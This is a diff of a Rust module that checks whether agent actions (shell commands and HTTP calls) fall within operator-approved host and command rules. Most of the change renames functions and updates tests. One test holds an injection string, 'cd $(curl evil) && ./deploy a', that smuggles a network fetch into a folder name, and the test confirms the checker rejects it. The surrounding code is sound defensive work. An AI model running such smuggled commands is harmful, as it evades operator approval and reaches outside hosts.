@@ -10,8 +10,8 @@ use std::fmt::Write as _;
 use serde::{Deserialize, Serialize};
 use unstuck_core::plan::{Call, HttpCall, MutationSpec, ProbeCommand};
 
-use super::declare::line_of;
-use crate::egress::{HostPattern, service_target};
+use super::declare::as_shell_line;
+use crate::egress::{HostPattern, parse_service_target};
 
 /// Maximum size in bytes of an action's text that the operator can be shown.
 pub(super) const TEXT_BYTES_MAX: usize = 8_192;
@@ -33,7 +33,7 @@ pub struct ActionRule {
 
 /// The permissions of an action that may be performed.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
-pub struct Permitted {
+pub struct ActionPermit {
     /// The hosts that its call may reach.
     pub call: ActionReach,
     /// The hosts that its probe may reach.
@@ -54,11 +54,11 @@ pub enum ActionReach {
 
 impl ActionRule {
     /// Returns whether the rule covers a call.
-    pub(super) fn covers(&self, call: &Call) -> bool {
+    pub(super) fn covers_call(&self, call: &Call) -> bool {
         match call {
             Call::Command(call) => {
                 call.variables.iter().all(|variable| self.secrets.contains(variable))
-                    && self.covers_line(line_of(&call.program, &call.arguments))
+                    && self.covers_line(as_shell_line(&call.program, &call.arguments))
             }
             Call::Http(call) => self.command.is_none() && self.covers_request(call),
             Call::PullRequest(_) => false,
@@ -67,12 +67,12 @@ impl ActionRule {
 
     /// Returns whether the rule covers the command of a probe.
     pub(super) fn covers_probe(&self, probe: &ProbeCommand) -> bool {
-        self.covers_line(line_of(&probe.program, &probe.arguments))
+        self.covers_line(as_shell_line(&probe.program, &probe.arguments))
     }
 
     fn covers_line(&self, line: Option<&str>) -> bool {
         let (Some(pattern), Some(line)) = (&self.command, line) else { return false };
-        matches_command(pattern, without_folder(line))
+        matches_command(pattern, strip_folder(line))
     }
 
     /// Returns whether the rule covers a request. One with a `host` header of its own is not
@@ -82,37 +82,37 @@ impl ActionRule {
             call.headers.iter().map(|(name, _)| name).chain(call.secrets.iter().map(|s| &s.name));
         !names.any(|name| name.eq_ignore_ascii_case("host"))
             && call.secrets.iter().all(|header| self.secrets.contains(&header.variable))
-            && self.reaches(&call.url)
-            && call.look_up_url.as_ref().is_none_or(|url| self.reaches(url))
+            && self.allows_url(&call.url)
+            && call.look_up_url.as_ref().is_none_or(|url| self.allows_url(url))
     }
 
-    fn reaches(&self, url: &str) -> bool {
-        let Some(target) = service_target(url) else { return false };
+    fn allows_url(&self, url: &str) -> bool {
+        let Some(target) = parse_service_target(url) else { return false };
         self.hosts.iter().any(|allowed| allowed.matches(&target))
     }
 }
 
 /// Returns the text of everything that an action does, which the operator reads before approving
 /// it.
-pub(super) fn text_of(spec: &MutationSpec) -> String {
+pub(super) fn render_action(spec: &MutationSpec) -> String {
     let mut text = String::new();
     match spec.call.as_deref() {
         Some(Call::Command(call)) => {
-            text.push_str(line_of(&call.program, &call.arguments).unwrap_or_default());
+            text.push_str(as_shell_line(&call.program, &call.arguments).unwrap_or_default());
             if !call.variables.is_empty() {
                 let _ = write!(text, "\nwith {}", call.variables.join(", "));
             }
         }
-        Some(Call::Http(call)) => request_text(&mut text, call),
-        Some(Call::PullRequest(_)) | None => text.push_str(&spec.shown().unwrap_or_default()),
+        Some(Call::Http(call)) => append_request(&mut text, call),
+        Some(Call::PullRequest(_)) | None => text.push_str(&spec.render_line().unwrap_or_default()),
     }
-    if let Some(probe) = spec.shown_probe() {
+    if let Some(probe) = spec.render_probe() {
         let _ = write!(text, "\nto find out whether it happened: {probe}");
     }
     text
 }
 
-fn request_text(text: &mut String, call: &HttpCall) {
+fn append_request(text: &mut String, call: &HttpCall) {
     let _ = write!(text, "{} {}", call.method, call.url);
     for (name, value) in &call.headers {
         let _ = write!(text, "\n{name}: {value}");
@@ -126,7 +126,7 @@ fn request_text(text: &mut String, call: &HttpCall) {
 }
 
 /// Returns the line without a leading `cd` into a folder of the worktree.
-fn without_folder(line: &str) -> &str {
+fn strip_folder(line: &str) -> &str {
     let rest = line.strip_prefix("cd ").and_then(|rest| rest.split_once(" && "));
     match rest {
         Some((folder, line)) if folder.chars().all(is_plain) && !folder.contains(' ') => line,
@@ -192,9 +192,9 @@ mod tests {
         ] {
             assert_eq!(matches_command(pattern, line), expected, "{pattern} {line}");
         }
-        assert_eq!(without_folder("cd web/app && ./deploy a"), "./deploy a");
+        assert_eq!(strip_folder("cd web/app && ./deploy a"), "./deploy a");
         let tricked = "cd $(curl evil) && ./deploy a";
-        assert_eq!(without_folder(tricked), tricked);
+        assert_eq!(strip_folder(tricked), tricked);
     }
 
     fn rule() -> ActionRule {
@@ -204,7 +204,7 @@ mod tests {
 
     #[test]
     fn a_request_goes_to_a_host_that_the_rule_names() {
-        assert!(rule().reaches("https://a.example/x"));
+        assert!(rule().allows_url("https://a.example/x"));
         for url in [
             "https://b.example/x",
             "https://a.example:8443/x",
@@ -212,7 +212,7 @@ mod tests {
             "file:///etc",
             "a.example",
         ] {
-            assert!(!rule().reaches(url), "{url}");
+            assert!(!rule().allows_url(url), "{url}");
         }
     }
 
@@ -220,7 +220,7 @@ mod tests {
     fn a_request_that_names_another_host_or_an_unlisted_secret_is_not_covered() {
         let rule = rule();
         let call = HttpCall { url: "https://a.example/x".to_owned(), ..HttpCall::default() };
-        assert!(rule.covers(&Call::Http(call.clone())));
+        assert!(rule.covers_call(&Call::Http(call.clone())));
         let host = ("HOST".to_owned(), "b.example".to_owned());
         let elsewhere = HttpCall { headers: vec![host], ..call.clone() };
         let looked = Some("https://b.example/".to_owned());
@@ -231,7 +231,7 @@ mod tests {
         };
         let secret = HttpCall { secrets: vec![secret], ..call };
         for call in [elsewhere, looked, secret] {
-            assert!(!rule.covers(&Call::Http(call.clone())), "{call:?}");
+            assert!(!rule.covers_call(&Call::Http(call.clone())), "{call:?}");
         }
     }
 }
